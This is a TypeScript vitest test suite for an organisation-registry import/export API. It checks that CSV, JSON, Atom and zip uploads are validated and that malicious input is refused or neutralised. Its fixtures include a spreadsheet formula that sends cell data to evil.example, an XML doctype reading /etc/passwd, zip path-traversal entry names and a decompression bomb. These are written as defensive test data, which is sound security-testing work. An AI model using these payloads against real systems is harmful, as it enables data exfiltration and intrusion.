import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { zip } from '../bad-inputs/zip.ts'
import { openTestProduct, type TestProduct } from '../support/in-process.ts'

const HEADER = 'source,entity_number,name,start_date\r\n'
const types = { csv: 'text/csv', json: 'application/json', atom: 'application/atom+xml', zip: 'application/zip' }

let product: TestProduct
beforeAll(async () => {
  product = await openTestProduct({ backend: 'memory', ledgers: ['main', 'rows', 'lists', 'files'] })
})
afterAll(() => product.close())

async function take(form: keyof typeof types, body: string | Uint8Array, query = '') {
  const response = await product.post(`/api/v1/imports?format=${form}${query}`, body, { 'content-type': types[form] })
  return {
    status: response.status,
    headers: response.headers,
    body: (await response.json()) as Record<string, unknown>,
  }
}

async function exported(query: string) {
  const response = await product.get(`/api/v1/export?format=csv${query}`)
  return { text: await response.text(), leftOut: response.headers.get('asof-left-out'), status: response.status }
}

describe('a table', () => {
  const formula = `TEST,1,"=HYPERLINK(""https://evil.example/?""&A1,""open"")",2026-06-01\r\n`

  test('is one organisation for each row, told as it was written, and guarded when it leaves', async () => {
    const first = await take('csv', HEADER + formula)
    expect(first).toMatchObject({ status: 201, body: { events: 1, added: 1, present: 0, commits: 1, position: 1 } })
    const page = (await (await product.get('/api/v1/events')).json()) as { events: { event: unknown }[] }
    expect(page.events[0]!.event).toMatchObject({
      id: 'import:TEST/1',
      effectiveFrom: '2026-06-01',
      assumed: ['kind'],
      data: { org: 'TEST/1', name: '=HYPERLINK("https://evil.example/?"&A1,"open")', kind: 'company' },
    })
    const { text } = await exported('')
    expect(text).toBe(`${HEADER}TEST,1,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",2026-06-01\r\n`)
    const again = await take('csv', text)
    expect(again).toMatchObject({ status: 200, body: { events: 1, added: 0, present: 1, commits: 0, position: 1 } })
    expect(again.headers.get('idempotency-replayed')).toBe('true')
  })

  test('adds only what is missing, and a dry run stores nothing', async () => {
    const table = `${HEADER}${formula}TEST,2,Second,2026-06-02\r\nTEST,3,Third,2026-06-03\r\n`
    const dry = await take('csv', table, '&dryRun=true')
    expect(dry).toMatchObject({ status: 200, body: { dryRun: true, events: 3, added: 2, present: 1, position: 1 } })
    expect(await take('csv', table)).toMatchObject({ status: 201, body: { added: 2, present: 1, position: 3 } })
  })

  test('is exported as it was known', async () => {
    expect((await exported('&knownAt=@1')).text.split('\r\n')).toHaveLength(3)
    expect((await exported('&knownAt=@0')).text).toBe(HEADER)
    expect((await exported('&knownAt=@99')).status).toBe(422)
  })

  test('is checked whole, with all errors at their cells, before anything of it is appended', async () => {
    const table = `${HEADER}TEST,9,Good,2026-06-01\r\na/b,,\u202eevil,2026-02-30\r\nTEST,9,Other,2026-06-01\r\n`
    const { status, body } = await take('csv', table)
    expect(status).toBe(422)
    expect((body['errors'] as { pointer: string; code: string }[]).map(({ pointer, code }) => [pointer, code])).toEqual(
      [
        ['/rows/1/source', 'INVALID_IDENTIFIER'],
        ['/rows/1/entity_number', 'INVALID_IDENTIFIER'],
        ['/rows/1/name', 'INVALID_TEXT'],
        ['/rows/1/start_date', 'INVALID_DATE'],
        ['/rows/2', 'ID_CONFLICT'],
      ],
    )
    expect(await take('csv', `${HEADER}TEST,2,Renamed,2026-06-02\r\n`)).toMatchObject({
      status: 409,
      body: { code: 'ID_CONFLICT', errors: [{ pointer: '/rows/0/id' }] },
    })
  })

  test('of many rows is several commits in their order', async () => {
    const rows = Array.from({ length: 600 }, (_, index) => `R,${index + 1},Row ${index + 1},2026-01-01\r\n`)
    const table = HEADER + rows.join('')
    expect(await take('csv', table, '&ledger=rows')).toMatchObject({ status: 201, body: { added: 600, commits: 3 } })
    expect((await exported('&ledger=rows')).text).toBe(table)
    const more = HEADER + ['R,0,New,2026-01-01\r\n', ...rows].join('')
    expect(await take('csv', more, '&ledger=rows')).toMatchObject({ status: 201, body: { added: 1, present: 600 } })
  })

  test.each([
    ['other columns', 'source,name\r\n', 422, 'WRONG_COLUMNS'],
    ['columns in another order', 'entity_number,source,name,start_date\r\n', 422, 'WRONG_COLUMNS'],
    ['nothing', '', 422, 'WRONG_COLUMNS'],
    ['no row', HEADER, 422, 'NOTHING_TO_IMPORT'],
    ['a quote that is not closed', `${HEADER}a,1,"open,2026-01-01\r\n`, 400, 'MALFORMED_CSV'],
    ['text after a quote', `${HEADER}a,1,"one"two,2026-01-01\r\n`, 400, 'MALFORMED_CSV'],
    ['a cell too few', `${HEADER}a,1,one\r\n`, 400, 'MALFORMED_CSV'],
    ['a cell too many', `${HEADER}a,1,one,2026-01-01,x\r\n`, 400, 'MALFORMED_CSV'],
    ['an empty line', `${HEADER}\r\na,1,one,2026-01-01\r\n`, 400, 'MALFORMED_CSV'],
    ['a NUL', `${HEADER}a,1,o\0ne,2026-01-01\r\n`, 422, 'INVALID_TEXT'],
    ['a line break in a name', `${HEADER}a,1,"o\nne",2026-01-01\r\n`, 422, 'INVALID_TEXT'],
    ['a large cell', `${HEADER}a,1,${'x'.repeat(1_100_000)},2026-01-01\r\n`, 413, 'CELL_TOO_LARGE'],
    ['many columns', `${','.repeat(500_000)}\r\n`, 422, 'WRONG_COLUMNS'],
    ['many rows', HEADER + 'a,1,one,2026-01-01\r\n'.repeat(200_001), 413, 'TOO_MANY_ROWS'],
    ['bytes that are no UTF-8', Buffer.concat([Buffer.from(HEADER), Buffer.from([0xff])]), 400, 'INVALID_ENCODING'],
  ])('with %s is refused', async (_, table, status, code) => {
    expect(await take('csv', table)).toMatchObject({ status, body: { code } })
  })

  test('may begin with a byte order mark and end its lines as it likes', async () => {
    const table = `\ufeff${HEADER}TEST,2,Second,2026-06-02\r\n`.replaceAll('\r', '')
    expect(await take('csv', table)).toMatchObject({ status: 200, body: { present: 1 } })
  })

  test('leaves out, and counts, the organisations that its columns cannot say', async () => {
    const plain = { type: 'org.registered', source: [{ kind: 'test' }], effectiveFrom: '2026-01-01' }
    const events = [
      { ...plain, id: 'one', data: { org: 'one', name: 'One', kind: 'company' } },
      { ...plain, id: 'two', data: { org: 'uni/two', name: 'Two', kind: 'university' } },
      { ...plain, id: 'three', data: { org: 'x/three', name: "'=3", kind: 'company' } },
    ]
    await take('json', JSON.stringify(events), '&ledger=lists')
    const { text, leftOut } = await exported('&ledger=lists')
    expect([text, leftOut]).toEqual([`${HEADER}x,three,"''=3",2026-01-01\r\n`, '2'])
    expect(await take('csv', text, '&ledger=lists')).toMatchObject({ status: 200, body: { present: 1 } })
  })
})

describe('a list of events', () => {
  const event = (id: string, name = id) => ({
    id,
    type: 'org.registered',
    source: [{ kind: 'test' }],
    effectiveFrom: '2026-01-01',
    data: { org: `l/${id}`, name, kind: 'company' },
  })
  const many = Array.from({ length: 300 }, (_, index) => event(`e${index}`))

  test('is appended in commits; what is there twice counts once', async () => {
    const body = JSON.stringify([...many, many[0]])
    const dry = await take('json', body, '&ledger=lists&dryRun=true')
    expect(dry).toMatchObject({ status: 200, body: { events: 301, added: 300, present: 1 } })
    expect(await take('json', body, '&ledger=lists')).toMatchObject({
      status: 201,
      body: { added: 300, present: 1, commits: 2 },
    })
    expect(await take('json', JSON.stringify({ events: many }), '&ledger=lists')).toMatchObject({
      status: 200,
      body: { added: 0, present: 300 },
    })
  })

  test.each([
    ['an id that stands for two', [event('n'), event('n', 'other')], 409, 'ID_CONFLICT', '/1'],
    [
      'a rule against the last',
      { events: [event('n'), event('n2'), { ...event('n3'), data: event('n').data }] },
      409,
      'ALREADY_EXISTS',
      '/events/2/data/org',
    ],
    ['a field of the log', [{ ...event('n'), position: 1 }], 422, 'RECORDED_AT_RESERVED', '/0/position'],
    ['a verdict', [{ ...event('n'), type: 'event.reviewed' }], 403, 'FORBIDDEN', '/0/type'],
    ['no list', { event: event('n') }, 422, 'SCHEMA_INVALID', ''],
    ['nothing', [], 422, 'NOTHING_TO_IMPORT', undefined],
  ])('with %s is refused, and nothing of it is stored', async (_, value, status, code, pointer) => {
    const before = await (await product.get('/api/v1/log/head?ledger=lists')).text()
    const answer = await take('json', JSON.stringify(value), '&ledger=lists')
    expect(answer).toMatchObject({ status, body: { code } })
    expect((answer.body['errors'] as { pointer?: string }[])[0]!.pointer).toBe(pointer)
    expect(await (await product.get('/api/v1/log/head?ledger=lists')).text()).toBe(before)
  })
})

describe('a feed', () => {
  const feed = '<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>'
  test.each([
    ['a document type', `<?xml version="1.0"?><!DOCTYPE f [<!ENTITY a "b">]>${feed}`, 422, 'XML_DOCTYPE_FORBIDDEN'],
    [
      'one that is not at the start',
      `<feed><!-- --><!doctype x SYSTEM "file:///etc/passwd"></feed>`,
      422,
      'XML_DOCTYPE_FORBIDDEN',
    ],
    ['another encoding', `<?xml version="1.0" encoding="UTF-7"?>${feed}`, 400, 'INVALID_ENCODING'],
    ['UTF-16', Buffer.from(feed, 'utf16le'), 400, 'MALFORMED_FEED'],
    ['no feed', '<rss/>', 400, 'MALFORMED_FEED'],
    ['entries, of which no event follows', feed, 422, 'NOTHING_TO_IMPORT'],
  ])('with %s is refused', async (_, text, status, code) => {
    expect(await take('atom', text)).toMatchObject({ status, body: { code } })
  })
})

describe('an archive', () => {
  const table = `${HEADER}Z,1,One,2026-01-01\r\n`
  const pack = (...entries: (readonly [string, string | Buffer])[]) =>
    zip(entries.map(([name, data]) => ({ name, data: pieces(data) })))
  async function* pieces(data: string | Buffer) {
    yield Buffer.from(data)
  }

  test('is its files, in the order of their names', async () => {
    const events = JSON.stringify([
      {
        id: 'z',
        type: 'org.registered',
        source: [{ kind: 'test' }],
        effectiveFrom: '2026-01-01',
        data: { org: 'z/2', name: 'Two', kind: 'company' },
      },
    ])
    const body = await pack(['b/two.json', events], ['a.csv', table])
    expect(await take('zip', body, '&ledger=files')).toMatchObject({ status: 201, body: { events: 2, added: 2 } })
    expect((await exported('&ledger=files')).text).toBe(`${table}z,2,Two,2026-01-01\r\n`)
  })

  test.each([
    '../a.csv',
    'a/../../b.csv',
    '/etc/a.csv',
    'C:/a.csv',
    'a\\b.csv',
    'a//b.csv',
    './a.csv',
    'inner.zip',
    'a.csv.gz',
    'a\0.csv',
    'a\u202e.csv',
  ])('that holds %j is refused', async (name) => {
    const body = await pack([name, table])
    expect(await take('zip', body)).toMatchObject({ status: 422, body: { code: 'ZIP_ENTRY_FORBIDDEN' } })
  })

  test('that holds a name twice, or is none or damaged, is refused', async () => {
    const twice = await pack(['a.csv', table], ['a.csv', table])
    expect(await take('zip', twice)).toMatchObject({ status: 422, body: { code: 'ZIP_ENTRY_FORBIDDEN' } })
    const good = await pack(['a.csv', table])
    for (const bad of [
      '',
      'no archive',
      good.subarray(0, 60),
      Buffer.concat([good.subarray(0, 40), Buffer.from('xxxx'), good.subarray(44)]),
    ])
      expect(await take('zip', bad)).toMatchObject({ status: 400, body: { code: 'MALFORMED_ZIP' } })
    expect(await take('zip', await pack())).toMatchObject({ status: 422, body: { code: 'NOTHING_TO_IMPORT' } })
  })

  test('that inflates to far more than it is, is refused while it is inflated', async () => {
    const body = await pack(['a.csv', Buffer.alloc(100 * 1024 * 1024, 'a')])
    expect(await take('zip', body)).toMatchObject({ status: 413, body: { code: 'PAYLOAD_TOO_LARGE' } })
  })

  test('points to the file with the fault', async () => {
    const { body } = await take('zip', await pack(['a/b.csv', `${HEADER}Z,1,One,never\r\n`]))
    expect(body).toMatchObject({ code: 'INVALID_DATE', errors: [{ pointer: '/a~1b.csv/rows/0/start_date' }] })
  })
})

test('a file of another media type than its form is not taken, nor a compressed body', async () => {
  const as = (headers: Record<string, string>) => product.post('/api/v1/imports?format=csv', HEADER, headers)
  expect((await as({ 'content-type': 'application/json' })).status).toBe(415)
  expect((await as({ 'content-type': 'text/csv; charset=latin1' })).status).toBe(415)
  expect((await as({ 'content-type': 'text/csv; charset=utf-8' })).status).toBe(422)
  expect((await as({ 'content-type': 'text/csv', 'content-encoding': 'gzip' })).status).toBe(415)
  expect((await product.post('/api/v1/imports', HEADER, { 'content-type': 'text/csv' })).status).toBe(400)
})
